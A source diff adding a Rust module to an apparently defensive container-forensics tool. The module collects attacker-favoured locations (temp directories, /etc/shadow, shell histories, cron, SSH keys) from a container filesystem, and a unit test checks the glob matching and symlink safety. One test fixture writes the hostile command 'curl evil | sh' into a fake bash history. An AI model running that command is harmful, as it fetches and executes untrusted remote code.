@@ -1,0 +1,233 @@
+//! The places attackers use, from the container forensics checklist, and copying them all.
+
+use crate::rootfs::copy::{self, Copier, CopyOptions, CopyStats};
+use crate::rootfs::error::RootError;
+use crate::rootfs::root::{RootFs, components};
+use crate::rootfs::sys;
+use crate::sink::Sink;
+use rustix::fd::AsFd;
+
+/// One place to collect, as an absolute path inside the container.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Place {
+    /// A directory: everything under it ([`copy::copy_tree`]).
+    Dir(&'static str),
+    /// A single file ([`copy::copy_file`]).
+    File(&'static str),
+    /// A pattern where `*` and `?` match within one component (never `/`); each match is copied
+    /// as a directory or a file, whichever it is. Directories are listed safely to expand it.
+    Glob(&'static str),
+}
+
+/// What responders look at first in a compromised container (the checklist's `ls -la` of the
+/// temporary directories, account files, preload, shell histories, cron and SSH keys).
+pub const ATTACKER_PLACES: &[Place] = &[
+    Place::Dir("/tmp"),
+    Place::Dir("/var/tmp"),
+    Place::Dir("/dev/shm"),
+    Place::Dir("/run"),
+    Place::File("/etc/passwd"),
+    Place::File("/etc/shadow"),
+    Place::File("/etc/group"),
+    Place::File("/etc/ld.so.preload"),
+    Place::File("/root/.bash_history"),
+    Place::File("/root/.ssh/authorized_keys"),
+    Place::Dir("/var/spool/cron"),
+    Place::Glob("/etc/cron*"),
+    Place::Glob("/home/*/.bash_history"),
+    Place::Glob("/home/*/.ssh/authorized_keys"),
+];
+
+/// Most paths one glob may expand to.
+const MAX_MATCHES: usize = 10_000;
+
+/// Copies every place into `sink`, each file as `prefix` + its container path (components
+/// escaped), e.g. `files/etc/passwd`, `files/tmp/x`. Places that do not exist are skipped;
+/// limits in `opts` apply to each place separately.
+///
+/// # Errors
+/// Only when the sink fails to store a member.
+pub fn copy_places(
+    root: &RootFs,
+    places: &[Place],
+    prefix: &str,
+    sink: &mut dyn Sink,
+    opts: &CopyOptions,
+) -> Result<CopyStats, RootError> {
+    let prefix = copy::normalized(prefix);
+    let mut total = CopyStats::default();
+    for place in places {
+        match place {
+            Place::Dir(p) => total.add(&copy_dir(root, p.as_bytes(), &prefix, sink, opts)?),
+            Place::File(p) => total.add(&copy_single(root, p.as_bytes(), &prefix, sink, opts)?),
+            Place::Glob(pattern) => {
+                for path in expand(root, pattern.as_bytes(), sink, &mut total) {
+                    let is_dir = root.lstat(&path).ok().flatten().is_some_and(|s| s.is_dir());
+                    let stats = if is_dir {
+                        copy_dir(root, &path, &prefix, sink, opts)?
+                    } else {
+                        copy_single(root, &path, &prefix, sink, opts)?
+                    };
+                    total.add(&stats);
+                }
+            }
+        }
+    }
+    Ok(total)
+}
+
+fn copy_dir(
+    root: &RootFs,
+    path: &[u8],
+    prefix: &str,
+    sink: &mut dyn Sink,
+    opts: &CopyOptions,
+) -> Result<CopyStats, RootError> {
+    let original = crate::rootfs::json::absolute(path);
+    let name = copy::member_name(prefix, &original, &original);
+    copy::copy_tree(root, path, &name, sink, opts)
+}
+
+fn copy_single(
+    root: &RootFs,
+    path: &[u8],
+    prefix: &str,
+    sink: &mut dyn Sink,
+    opts: &CopyOptions,
+) -> Result<CopyStats, RootError> {
+    let original = crate::rootfs::json::absolute(path);
+    let mut c = Copier::new(sink, opts);
+    copy::copy_one(root, path, copy::member_name(prefix, &original, &original), &mut c)?;
+    Ok(c.stats)
+}
+
+/// The existing paths (relative to the root) matching `pattern`, in sorted order. Directories on
+/// the way are opened without following symlinks; a symlinked or unreadable one matches nothing.
+fn expand(root: &RootFs, pattern: &[u8], sink: &mut dyn Sink, stats: &mut CopyStats) -> Vec<Vec<u8>> {
+    let Ok(comps) = components(pattern) else {
+        return Vec::new();
+    };
+    let mut paths: Vec<Vec<u8>> = vec![Vec::new()];
+    for comp in comps {
+        let mut next = Vec::new();
+        for base in &paths {
+            if !comp.iter().any(|&b| b == b'*' || b == b'?') {
+                next.push(copy::joined(base, comp));
+                continue;
+            }
+            let Ok(fd) = root.open_dir(base) else { continue };
+            let Ok((names, more)) = sys::read_names(fd.as_fd(), MAX_MATCHES as u64) else {
+                continue;
+            };
+            if more {
+                stats.gaps += 1;
+                sink.gap(
+                    crate::rootfs::error::display_path(&crate::rootfs::json::absolute(base)),
+                    format!(
+                        "more than {MAX_MATCHES} entries: only the first were matched against {}",
+                        String::from_utf8_lossy(pattern)
+                    ),
+                );
+            }
+            for i in 0..names.len() {
+                if let Some(name) = names.get(i).filter(|n| glob_match(comp, n)) {
+                    next.push(copy::joined(base, name));
+                }
+            }
+        }
+        next.truncate(MAX_MATCHES);
+        paths = next;
+    }
+    // Only what exists (a missing literal tail is simply not there).
+    paths.retain(|p| !p.is_empty() && root.lstat(p).ok().flatten().is_some());
+    paths
+}
+
+/// `*` matches any run of bytes, `?` one byte; everything else itself.
+fn glob_match(pat: &[u8], name: &[u8]) -> bool {
+    let (mut p, mut n) = (0usize, 0usize);
+    let mut star: Option<(usize, usize)> = None;
+    while n < name.len() {
+        match pat.get(p) {
+            Some(b'*') => {
+                star = Some((p, n));
+                p += 1;
+            }
+            Some(&c) if c == b'?' || Some(&c) == name.get(n) => {
+                p += 1;
+                n += 1;
+            }
+            _ => match star {
+                Some((sp, sn)) => {
+                    p = sp + 1;
+                    n = sn + 1;
+                    star = Some((sp, sn + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+    pat.get(p..).unwrap_or_default().iter().all(|&c| c == b'*')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sink::MemorySink;
+
+    #[test]
+    fn globs_match_within_a_component() {
+        assert!(glob_match(b"cron*", b"cron.d"));
+        assert!(glob_match(b"cron*", b"cron"));
+        assert!(glob_match(b"*", b".hidden"));
+        assert!(glob_match(b"a?c", b"abc"));
+        assert!(glob_match(b"*.d", b"cron.d"));
+        assert!(glob_match(b"*a*b", b"xxaxxb"));
+        assert!(!glob_match(b"cron*", b"anacrontab"));
+        assert!(!glob_match(b"a?c", b"ac"));
+    }
+
+    #[test]
+    fn attacker_places_are_copied_and_globs_expanded() {
+        let t = tempfile::tempdir().unwrap();
+        let r = t.path();
+        for d in [
+            "tmp",
+            "etc/cron.d",
+            "home/alice/.ssh",
+            "home/bob",
+            "var/spool/cron/crontabs",
+        ] {
+            std::fs::create_dir_all(r.join(d)).unwrap();
+        }
+        std::fs::write(r.join("tmp/x.sh"), b"#!/bin/sh\n").unwrap();
+        std::fs::write(r.join("etc/passwd"), b"root:x:0:0\n").unwrap();
+        std::fs::write(r.join("etc/crontab"), b"* * * * * root x\n").unwrap();
+        std::fs::write(r.join("etc/cron.d/evil"), b"* * * * * root y\n").unwrap();
+        std::fs::write(r.join("home/alice/.bash_history"), b"curl evil | sh\n").unwrap();
+        std::fs::write(r.join("home/alice/.ssh/authorized_keys"), b"ssh-ed25519 AAAA\n").unwrap();
+        std::fs::write(r.join("var/spool/cron/crontabs/root"), b"@reboot z\n").unwrap();
+        // bob's home is a symlink to the host's root: nothing of it is read.
+        std::fs::remove_dir(r.join("home/bob")).unwrap();
+        std::os::unix::fs::symlink("/root", r.join("home/bob")).unwrap();
+        let root = RootFs::open(r).unwrap();
+        let mut sink = MemorySink::default();
+        let stats = copy_places(&root, ATTACKER_PLACES, "files", &mut sink, &CopyOptions::default()).unwrap();
+        let mut names: Vec<&str> = sink.members.iter().map(|(m, _, _)| m.name.as_str()).collect();
+        names.sort_unstable();
+        assert_eq!(
+            names,
+            [
+                "files/etc/cron.d/evil",
+                "files/etc/crontab",
+                "files/etc/passwd",
+                "files/home/alice/.bash_history",
+                "files/home/alice/.ssh/authorized_keys",
+                "files/tmp/x.sh",
+                "files/var/spool/cron/crontabs/root",
+            ]
+        );
+        assert_eq!(stats.files, 7);
+        assert_eq!(sink.content("files/etc/cron.d/evil"), Some(&b"* * * * * root y\n"[..]));
+    }
+}
